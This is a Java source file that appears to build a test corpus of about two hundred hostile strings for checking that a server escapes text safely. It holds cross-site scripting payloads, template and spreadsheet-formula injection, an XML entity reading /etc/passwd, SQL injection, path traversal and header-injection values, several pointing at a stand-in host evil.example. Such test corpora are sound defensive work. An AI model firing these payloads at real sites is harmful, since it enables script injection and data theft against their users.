package org.minutegraph.serve;

import java.util.ArrayList;
import java.util.List;

/**
 * Two hundred texts that would run a script, or break what stands around them, on a page that takes
 * them for anything but text: each way to begin with each way to go on.
 */
final class HostileTexts {
  /** Out of where a text may stand. */
  private static final List<String> OUT_OF =
      List.of(
          "",
          "\"",
          "'",
          "\">",
          "'>",
          "</title>",
          "</script>",
          "</textarea></select></style>",
          "--><!-- >",
          "]]>",
          "`${",
          "\\\"}</script>");

  /** Into what runs. {@code %d} tells one from another. */
  private static final List<String> INTO =
      List.of(
          "<script>alert(%d)</script>",
          "<ScRiPt >alert(%d)</ScRiPt >",
          "<img src=x onerror=alert(%d)>",
          "<img/src/onerror=alert(%d)//",
          "<svg/onload=alert(%d)>",
          "<svg><script href=data:,alert(%d)></script></svg>",
          "<svg><animate onbegin=alert(%d) attributeName=x dur=1s>",
          "<body onpageshow=alert(%d)>",
          "<iframe srcdoc='&lt;script&gt;alert(%d)&lt;/script&gt;'></iframe>",
          "<a href=javascript:alert(%d) autofocus onfocus=alert(1)>x</a>",
          "<details open ontoggle=alert(%d)>x",
          "<math><mtext><style><img title=\"</style><img src=x onerror=alert(%d)>\">",
          " onmouseover=alert(%d) autofocus tabindex=1 onfocus=alert(1) x=");

  /** What does its work where it stands. */
  private static final List<String> ALONE =
      List.of(
          "javascript:alert(%d)",
          "JaVa\tScRiPt:alert(%d)",
          "data:text/html,<script>alert(%d)</script>",
          "vbscript:msgbox(%d)",
          "//evil.example/%d.js",
          "&lt;script&gt;alert(%d)&lt;/script&gt;",
          "&#60;script&#62;alert(%d)&#60;/script&#62;",
          "%%3Cscript%%3Ealert(%d)%%3C/script%%3E",
          "\\u003cscript\\u003ealert(%d)\\u003c/script\\u003e",
          "\\x3cscript\\x3ealert(%d)\\x3c/script\\x3e",
          "+ADw-script+AD4-alert(%d)+ADw-/script+AD4-",
          "\uFF1Cscript\uFF1Ealert(%d)\uFF1C/script\uFF1E",
          "\u202Etpircs\u202C <script>alert(%d)</script>",
          "${alert(%d)} #{alert(1)} {{alert(1)}} <%%= alert(1) %%>",
          "{{constructor.constructor('alert(%d)')()}}",
          "@raw $unsafe{alert(%d)} @if(true)",
          "\"};alert(%d);//",
          "';alert(%d);'",
          "</script><script type=application/ld+json>{\"@id\":\"%d\"}</script>",
          "{\"@context\":\"https://evil.example/%d\"}",
          "=cmd|'/c calc'!A%d",
          "=HYPERLINK(\"https://evil.example/%d\",\"here\")",
          "@SUM(1+1)*%d",
          "+%d+cmd|' /C calc'!A0",
          "-%d+3+cmd|' /C calc'!A0",
          "<base href=https://evil.example/%d/>",
          "<meta http-equiv=refresh content=0;url=https://evil.example/%d>",
          "<link rel=stylesheet href=https://evil.example/%d.css>",
          "<style>@import'https://evil.example/%d.css';</style>",
          "<form action=https://evil.example/%d><button>x</button></form>",
          "<object data=javascript:alert(%d)></object>",
          "<embed src=javascript:alert(%d)>",
          "<x style=background:url(https://evil.example/%d)>",
          "<img src=https://evil.example/%d.png>",
          "<!--#exec cmd=\"echo %d\"-->",
          "<?php alert(%d) ?>",
          "<![CDATA[<script>alert(%d)</script>]]>",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;%d",
          "' UNION SELECT %d --",
          "\"} } ; DROP ALL ; # %d",
          "../../../../etc/passwd %d",
          "%%0d%%0aSet-Cookie: a=%d",
          "\r\nSet-Cookie: a=%d",
          "<scr<script>ipt>alert(%d)</scr</script>ipt>");

  private HostileTexts() {}

  /** All of them, each another. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String out : OUT_OF) {
      for (String into : INTO) {
        all.add(out + into.formatted(all.size()));
      }
    }
    ALONE.forEach(alone -> all.add(alone.formatted(all.size())));
    return List.copyOf(all);
  }
}
